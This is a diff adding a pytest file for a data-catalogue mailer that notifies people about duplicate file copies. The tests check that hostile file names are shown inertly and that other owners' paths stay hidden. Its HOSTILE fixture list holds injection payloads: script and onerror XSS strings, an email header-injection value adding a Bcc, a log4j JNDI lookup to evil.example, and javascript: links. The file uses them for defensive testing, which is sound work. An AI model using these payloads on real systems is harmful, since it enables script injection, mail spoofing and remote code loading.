@@ -1,0 +1,124 @@
+"""What people are told: nothing that a name could do, and no path of others."""
+
+from __future__ import annotations
+
+from datetime import datetime
+from email import message_from_bytes
+from email.policy import default
+from html.parser import HTMLParser
+
+import pytest
+
+from data_platform.settings import MailSettings
+from populate.conversation.wording import CHOICES, harmless, html_text, human, plain_text, subject, teams_link, told
+from populate.duplicates.live import Copy
+from populate.duplicates.rows import Owner
+from populate.mail import message
+from schemas.conversation import ANSWERS
+
+UNTIL = datetime(2026, 12, 29)
+PAGE = "https://catalogue.example.org/answer?token=abc"
+HOSTILE = (
+    "<script>alert(1)</script>.csv",
+    "<img src=https://evil.example/p.png onerror=alert(1)>.csv",
+    '"><a href="https://evil.example">click</a>.csv',
+    "report.csv\r\nBcc: eve@evil.example\r\n\r\n<b>hello</b>",
+    "a\u202egnp.csv",
+    "line\u2028separator\u2029.csv",
+    "nul\0bell\x07.csv",
+    "https://evil.example/login",
+    "WWW.evil.example",
+    "mailto:eve@evil.example",
+    "javascript:alert(1)",
+    "{{7*7}} ${jndi:ldap://evil.example} %(name)s",
+    "x" * 4000,
+    "𝕄𝔸𝕋ℍ ünï ✓.csv",
+)
+
+
+class Tags(HTMLParser):
+    """Collects the tags and links of a page."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.links: list[str | None] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.links += [value for name, value in attrs]
+
+
+def copy(path: str, person: str, department: str = "Chemistry", *, origin: bool = False) -> Copy:
+    owner = Owner(person, "acme", person, person, person.title(), department) if person else Owner()
+    return Copy("1" * 64, 10, path, "v", path, path, "file/lab", owner, UNTIL, None, origin, "seen")
+
+
+@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
+def test_a_name_is_only_shown(name: str) -> None:
+    question = told(name, 10, [f"/amy/{name}"], [copy("/secret", name, name, origin=True)])
+    settings = MailSettings(sender="catalogue@example.org")
+    mail = message(
+        subject(question, 1),
+        "amy@example.org",
+        plain_text(question, PAGE, UNTIL),
+        html_text(question, PAGE, UNTIL),
+        settings,
+    )
+    received = message_from_bytes(mail.as_bytes(), policy=default)
+    assert received.keys() == mail.keys()
+    assert received["To"] == "amy@example.org"
+    plain, html = (received.get_body((kind,)).get_content() for kind in ("plain", "html"))  # type: ignore[union-attr]
+    seen = Tags()
+    seen.feed(html)
+    assert seen.tags == {"html", "body", "p", "ul", "li", "a"}
+    assert seen.links == [PAGE]
+    assert [word for word in plain.split() if "://" in word] == [PAGE]
+    assert "www.evil" not in plain.lower()
+    assert "mailto:" not in plain
+    assert not set(plain) & set("\0\x07\u202e\u2028\u2029")
+    assert "\nBcc" not in plain
+    assert len(plain.splitlines()) < 40
+
+
+def test_of_others_owner_and_department_are_told_and_no_path() -> None:
+    others = [copy("/brendan/plates.csv", "brendan", origin=True), copy("/cyd/1", "cyd", ""), copy("/cyd/2", "cyd", "")]
+    others.append(copy("/nobody/3", ""))
+    question = told("Amy", 2_000_000, ["/amy/a.csv", "/amy/b.csv"], others)
+    assert question.others == (
+        "Brendan, Chemistry: the original, as far as can be told",
+        "Cyd: 2 copies",
+        "somebody whom the source does not name: a copy",
+    )
+    for text in (plain_text(question, PAGE, UNTIL), html_text(question, PAGE, UNTIL)):
+        assert "/amy/a.csv" in text
+        assert "/amy/b.csv" in text
+        assert "4.0 MB" in text
+        assert "29 December 2026" in text
+        assert not any(path in text for path in ("/brendan", "/cyd", "/nobody", "plates"))
+        assert all(choice in text for choice in CHOICES.values())
+    assert subject(question, 1) == "Do you still need your copy of a.csv?"
+    assert subject(question, 2).startswith("Reminder: ")
+
+
+def test_many_copies_do_not_make_a_long_mail() -> None:
+    question = told("Amy", 1, [f"/amy/{n}" for n in range(1000)], [copy(f"/{n}", f"p{n}") for n in range(1000)])
+    assert "and 990 more" in plain_text(question, PAGE, UNTIL)
+    assert len(plain_text(question, PAGE, UNTIL).splitlines()) < 60
+
+
+def test_a_chat_is_only_a_draft_and_names_no_path() -> None:
+    link = teams_link("brendan#ext#@example.org", told("Amy", 1, ["/amy/secret project/a&b.csv"], []))
+    assert link.startswith("https://teams.microsoft.com/l/chat/0/0?users=brendan%23ext%23%40example.org&message=")
+    assert "a%26b.csv" in link
+    assert "secret" not in link
+    assert link in plain_text(told("Amy", 1, ["/a"], []), PAGE, UNTIL, link)
+
+
+def test_the_choices_are_those_of_the_table() -> None:
+    assert tuple(CHOICES) == ANSWERS
+
+
+def test_text_is_cut_in_the_middle_and_sizes_are_for_people() -> None:
+    assert harmless("a" * 50 + "b" * 50, 11) == "aaaaa…bbbbb"
+    assert [human(n) for n in (1, 999, 1500, 2e18)] == ["1 bytes", "999 bytes", "1.5 kB", "2,000.0 PB"]
